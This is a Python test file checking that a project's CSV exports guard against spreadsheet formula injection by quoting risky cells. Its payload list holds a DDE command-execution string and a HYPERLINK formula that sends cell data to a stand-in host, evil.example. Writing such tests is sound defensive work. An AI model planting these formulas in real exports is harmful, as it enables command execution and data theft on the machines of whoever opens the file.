"""CSV injection: every CSV the project writes neutralises formula cells (OWASP), through one function."""
import csv
import io

import pandas as pd
import pytest

from moa_core.csv_safe import safe_cell
from moa_core.storage import RunStore
from moa_core.storage.export import write_csv
from tests.storage.samples import call, record

PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "\t=1+1", "\r=1+1", "  =1+1", "\n@SUM(1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


def test_ordinary_cells_and_numbers_are_untouched():
    for value in ("What is MoA?", "a = b", "", "'already quoted", None, -2.5, 3):
        assert safe_cell(value) == value


def test_run_export_csv_neutralises_queries_answers_and_errors(tmp_path):
    store = RunStore.open(f"sqlite:///{tmp_path / 'x.db'}")
    r = record(query=PAYLOADS[0], calls=[call("m1", error="+1+1"), call("agg", role="aggregator")])
    r.calls[0].text, r.final = "@SUM(1)", "-2+3"
    store.save_run(r)
    store.ratings.add_rating("run", run_id=r.run_id, stars=4, rater="ann", comment="=HYPERLINK(\"x\")")
    store.ratings.add_rating("run", run_id=r.run_id, stars=5, rater="ann", comment="better on a second read")
    store.ratings.add_rating("run", run_id=r.run_id, stars=2, rater="bob", comment="too long")
    store.ratings.add_rating("call", run_id=r.run_id, call_id=r.calls[0].call_id, stars=3, rater="cy", comment="-ok")
    out = io.StringIO()
    write_csv(store.iter_runs(), out)
    store.close()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["run_query"] == "'" + PAYLOADS[0] and rows[0]["run_final"] == "'-2+3"
    assert rows[0]["text"] == "'@SUM(1)" and rows[0]["error"] == "'+1+1"
    assert rows[0]["prompt_tokens"] == "10"  # numbers stay numbers
    # comments beside the stars: each rater's latest comment, joined
    assert rows[0]["run_comments"] == "ann: better on a second read | bob: too long"
    assert rows[1]["call_comments"] == "ann: better on a second read | bob: too long"  # the synthesis is the run's answer
    assert rows[0]["call_comments"] == "cy: -ok"
    assert rows[0]["run_avg_stars"] == "3.5"


def test_chart_downloads_neutralise_formula_cells():
    from ui.charts import _csv

    df = pd.DataFrame({"model": ["=cmd|' /C calc'!A0", "gpt"], "p50_s": [-1.5, 2.0], "cost_usd": [None, 0.1]})
    rows = list(csv.DictReader(io.StringIO(_csv(df))))
    assert rows[0]["model"] == "'=cmd|' /C calc'!A0" and rows[1]["model"] == "gpt"
    assert rows[0]["p50_s"] == "-1.5" and rows[0]["cost_usd"] == "unknown"


@pytest.mark.parametrize("payload", ["  =1+1", " @SUM(1)", "\n-2+3", "\u00a0+1"])
def test_every_csv_writer_quotes_a_formula_after_leading_whitespace(payload):
    """One guard for every CSV: the votes export and the batch summary miss nothing safe_cell catches."""
    from moa_core.batch.report import summary_csv
    from moa_core.review.export import votes_csv

    votes = list(csv.DictReader(io.StringIO(votes_csv([{"id": 1, "query": payload, "comment": payload}]))))
    assert votes[0]["query"] == "'" + payload and votes[0]["comment"] == "'" + payload
    rows = list(csv.reader(io.StringIO(summary_csv({"systems": [{"name": payload}]}))))
    assert rows[1][0] == "'" + payload
